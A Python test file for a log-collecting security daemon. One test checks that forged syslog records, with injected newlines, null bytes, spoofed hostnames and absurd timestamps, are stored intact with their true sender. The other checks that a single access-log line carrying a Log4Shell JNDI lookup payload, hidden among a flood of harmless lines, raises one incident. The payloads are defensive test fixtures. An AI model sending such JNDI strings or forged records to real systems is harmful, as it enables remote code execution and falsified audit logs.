"""T17: records that lie about who sent them, when, and where they end; an attack in a storm."""

from __future__ import annotations

import socket
import sqlite3
import time
from pathlib import Path

import pytest
from support.daemon import Daemon
from support.evidence import records
from support.ports import wait_until
from support.scale import scale
from support.sources import Sources

STORM = scale(100_000, 1_000_000)
FOUND_S = 30.0
FORGED = (
    b"<34>1 2026-11-25T02:00:00Z host-1 app - - - text\n<34>1 2026-11-25T02:00:00Z bank a - - - x",
    b"<34>1 2026-11-25T02:00:00Z host-1 app - - - text\r\n<0>Oct 11 22:14:15 core su: root",
    b"<34>1 2026-11-25T02:00:00Z host-1 app - - - a\x00b",
    b"<34>1 2026-11-25T02:00:00Z relay-1.example bigsec.watch - - - I am the platform",
    b"<34>1 1970-01-01T00:00:00Z host-1 app - - - long ago",
    b"<34>1 2099-12-31T23:59:59Z host-1 app - - - far ahead",
    b"<34>1 2026-11-25T02:00:00Z 203.0.113.9 app - - - 45 <34>1 - - - - - -",
)
ATTACK = (
    b'203.0.113.77 - - [25/Nov/2026:02:00:00 +0000] "GET /index.php?x=${jndi:ldap://203.0.113.78/a}'
    b' HTTP/1.1" 200 12 "-" "${jndi:ldap://203.0.113.78/a}"'
)
HARMLESS = b'198.51.100.7 - - [25/Nov/2026:02:00:00 +0000] "GET /a%d HTTP/1.1" 200 12 "-" "Mozilla"'


def test_t17_a_forged_record_stays_one_record_of_its_true_sender(tmp_path: Path) -> None:
    """T17: one record each, byte for byte, with the true address and our own time."""
    sources = Sources()
    tcp, udp = sources.listen("tcp", "syslog_tcp"), sources.listen("udp", "syslog_udp")
    daemon = Daemon(tmp_path / "relay", sources.text)
    try:
        daemon.start()
        begin_us = time.time_ns() // 1_000
        with socket.create_connection(tcp, source_address=("127.0.0.2", 0)) as connection:
            connection.sendall(b"".join(b"%d %s" % (len(one), one) for one in FORGED))
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.bind(("127.0.0.3", 0))
            for one in FORGED:
                sender.sendto(one, udp)
        wait_until(lambda: _count(daemon) >= 2 * len(FORGED), 10, "all records")
        assert daemon.stop() == 0, daemon.tail()
    finally:
        daemon.drop()
    end_us = time.time_ns() // 1_000
    for source, address in (("tcp", "127.0.0.2"), ("udp", "127.0.0.3")):
        held = [one for one in records(daemon.evidence) if one.source == source]
        assert [one.payload for one in held] == list(FORGED)
        assert {socket.inet_ntoa(one.peer[:4]) for one in held} == {address}
        assert all(begin_us <= one.received_us <= end_us for one in held)


@pytest.mark.timeout(scale(120, 600))
def test_t17_an_attack_in_a_storm_is_an_incident(tmp_path: Path) -> None:
    """T17: one attack in the middle of a storm of harmless lines is an incident within 30 s."""
    sources = Sources()
    tcp = sources.listen("tcp", "syslog_tcp", 'format = "apache_access"')
    daemon = Daemon(tmp_path / "relay", sources.text, more="[store]\ncorrelate_s = 1")
    half = b"".join(HARMLESS % number + b"\n" for number in range(STORM // 2))
    try:
        daemon.start()
        with socket.create_connection(tcp) as connection:
            connection.sendall(half + ATTACK + b"\n")
            begin = time.monotonic()
            connection.sendall(half)
        wait_until(lambda: _incidents(daemon.store) > 0, FOUND_S, "the attack is an incident")
        took = time.monotonic() - begin
        wait_until(lambda: _count(daemon) > STORM, 60, "the whole storm is in the log")
        assert daemon.stop(120) == 0, daemon.tail()
    finally:
        daemon.drop()
    print(f"an incident {took:.1f} s after the attack, {STORM:,} lines around it")
    assert took <= FOUND_S
    assert _incidents(daemon.store) == 1


def _count(daemon: Daemon) -> int:
    return sum(not one.source.startswith("bigsec.") for one in records(daemon.evidence))


def _incidents(store: Path) -> int:
    """Incidents that speak of the attacker."""
    query = "SELECT count(DISTINCT incident_id) FROM incident_entity WHERE value = '203.0.113.77'"
    with sqlite3.connect(f"file:{store}?mode=ro", uri=True) as connection:
        (count,) = connection.execute(query).fetchone()
    return int(count)
